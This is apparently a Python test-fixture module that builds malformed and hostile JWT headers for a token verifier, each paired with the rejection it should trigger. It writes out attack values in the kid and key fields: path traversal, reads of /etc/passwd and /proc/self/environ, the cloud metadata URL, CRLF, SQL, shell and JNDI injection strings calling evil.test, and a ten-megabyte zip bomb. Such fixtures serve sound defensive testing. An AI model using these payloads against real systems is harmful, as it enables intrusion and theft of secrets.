"""Members of the header that ask for something."""

import base64
import datetime
import json
import zlib

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from .keys import b64


def make(world):
    w = world
    _key_material(w)
    _kid(w)
    _extensions(w)
    _nested(w)


def _key_material(w):
    """Whoever wrote the token wrote these too: they choose no key."""
    m = w.mallory
    location = "https://keys.attacks.test/mallory"
    certificate = base64.b64encode(_certificate(m)).decode()
    material = {
        "jwk": {**m.jwk, "kid": "rsa-1"}, "jku": location, "x5u": location, "x5c": [certificate],
        "x5t#S256": b64(b"\0" * 32), "jku-file": "file:///etc/passwd", "jku-userinfo": "https://issuer.attacks.test@evil.test/",
    }
    for id, value in material.items():
        name = id.split("-")[0]
        w.add(f"{id}-genuine-kid", f"{name} of the attacker's key, under the genuine kid", "bad_signature",
              w.token(m, kid="rsa-1", **{name: value}))
        w.add(f"{id}-own-kid", f"{name} of the attacker's key, under its own kid", "unknown_kid", w.token(m, **{name: value}))
    w.add("jwk-no-kid", "jwk of the attacker's key and no kid", "missing_kid", w.token(m, kid=None, jwk=m.jwk))
    w.add("jwk-none", "jwk of kty oct, and HS256", "unsupported_algorithm",
          w.token(m, alg="HS256", jwk={"kty": "oct", "k": "AAAA"}))
    w.add("all-of-them", "all of them at once", "bad_signature",
          w.token(m, kid="rsa-1", jwk=m.jwk, jku=location, x5u=location, x5c=[certificate]))
    w.control("genuine-with-x5c", "a genuine token whose header carries a foreign certificate: ignored",
              w.token(x5c=[certificate], jku=location))


def _certificate(signer):
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.attacks.test")])
    now = datetime.datetime.now(datetime.timezone.utc)
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(signer.private.public_key())
        .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1))
        .sign(signer.private, hashes.SHA256())
    )
    return made.public_bytes(serialization.Encoding.DER)


def _kid(w):
    for id, kid in {
        "traversal": "../../../../../../dev/null", "absolute": "/dev/null", "file": "file:///proc/self/environ",
        "metadata": "http://169.254.169.254/latest/meta-data/", "crlf": "rsa-1\r\nx-auth-user-id: root",
        "nul": "rsa-1\0.pem", "sql": "' UNION SELECT 'secret' -- ", "shell": "$(id)", "backtick": "`id`",
        "template": "{{7*7}}", "jndi": "${jndi:ldap://evil.test/a}", "format": "%s%s%s%n", "html": "<script>1</script>",
        "json": '","alg":"none', "bidi": "\u202e1-asr", "emoji": "\U0001f511", "longest": "k" * 512,
    }.items():
        w.add(f"kid-{id}", f"kid {kid[:40]!r}", "unknown_kid", w.token(kid=kid))
    w.add("kid-513", "a kid of 513 octets", "malformed_token", w.token(kid="k" * 513))
    w.add("kid-6k", "a kid of 6 KB", "malformed_token", w.token(kid="k" * 6000))
    w.add("kid-10k", "a kid of 10 KB, in a header beyond 8 KiB", "token_too_large", w.token(kid="k" * 10_240))
    for id, text in {"number": "1", "list": '["rsa-1"]', "object": '{"kid":"rsa-1"}', "true": "true", "null": "null"}.items():
        w.add(f"kid-type-{id}", f"kid is {text}", "malformed_token", w.token(header='{"alg":"RS256","kid":%s}' % text))


def _extensions(w):
    for id, crit in {
        "exp": ["exp"], "empty": [], "unknown": ["urn:example:x"], "alg": ["alg"], "text": "exp", "number": 1, "object": {},
    }.items():
        w.add(f"crit-{id}", f"crit {json.dumps(crit)}", "unsupported_header", w.token(crit=crit))
    w.add("crit-null", "crit null", "unsupported_header", w.token(header='{"alg":"RS256","kid":"rsa-1","crit":null}'))
    w.add("crit-last", "crit behind thirty other members", "unsupported_header",
          w.token(**{f"m{i}": i for i in range(29)}, crit=["x"]))
    w.add("crit-escaped", "crit spelt with an escape", "unsupported_header",
          w.token(header='{"alg":"RS256","kid":"rsa-1","\\u0063rit":["x"]}'))
    for id, more in {
        "b64-false": {"b64": False, "crit": ["b64"]}, "b64-no-crit": {"b64": False}, "b64-true": {"b64": True},
        "b64-text": {"b64": "false"},
    }.items():
        w.add(id, f"RFC 7797: {json.dumps(more)}", "unsupported_header", w.token(**more))
    raw = json.dumps(w.claims()).encode()
    w.add("b64-raw", "an unencoded payload, signed as such", "unsupported_header",
          f"{b64(json.dumps(w.header(b64=False, crit=['b64'])).encode())}.{b64(raw)}.{b64(w.rsa.sign(raw))}")
    w.add("zip", "a deflated payload", "malformed_token", w.token(zip="DEF", payload=zlib.compress(raw)))
    w.add("zip-bomb", "a deflated payload of ten megabytes", "malformed_token",
          w.token(zip="DEF", payload=zlib.compress(b" " * 10_000_000 + raw)))
    w.control("zip-ignored", "zip is no member of a JWS, and a payload that isn't deflated is read as it stands", w.token(zip="DEF"))
    w.control("unknown-members", "unknown members are ignored", w.token(urn="x", ALG="none", **{"Crit": ["x"]}))
    w.add("members-33", "33 members", "malformed_token", w.token(**{f"m{i}": i for i in range(31)}))
    w.control("members-32", "32 members", w.token(**{f"m{i}": i for i in range(30)}))
    w.add("header-9k", "a header of 9 KB", "token_too_large", w.token(padding="x" * 9000))
    for id, name in {"typ": "typ", "cty": "cty"}.items():
        w.add(f"{id}-type", f"{name} is a list", "malformed_token", w.token(**{name: ["JWT"]}))


def _nested(w):
    inner = w.token()
    w.add("nested-jws", "a signed token around a signed token", "malformed_token", w.token(cty="JWT", payload=inner))
    w.add("nested-in-foreign", "a genuine token inside an attacker's", "malformed_token",
          w.token(w.mallory, kid="rsa-1", cty="JWT", payload=inner))
    jwe = ".".join(b64(part) for part in (b'{"alg":"RSA-OAEP","enc":"A256GCM"}', b"k" * 256, b"i" * 12, b"c" * 40, b"t" * 16))
    w.add("jwe", "an encrypted token", "unsupported_header", jwe)
    w.add("nested-jwe", "a signed token around an encrypted one", "malformed_token", w.token(cty="JWT", payload=jwe))
    w.add("jwe-dir", "an encrypted token with the key `dir`ectly", "unsupported_header", f"{b64(b'{}')}....")
    w.add("jwe-header", "three parts, and enc in the header", "unsupported_header", w.token(alg="dir", enc="A128GCM"))
    w.add("jwe-header-rs", "a genuine signature over a header with enc", "unsupported_header", w.token(enc="A128GCM"))
    w.add("five-parts-genuine", "a genuine token with two parts behind it", "unsupported_header", inner + ".AAAA.AAAA")
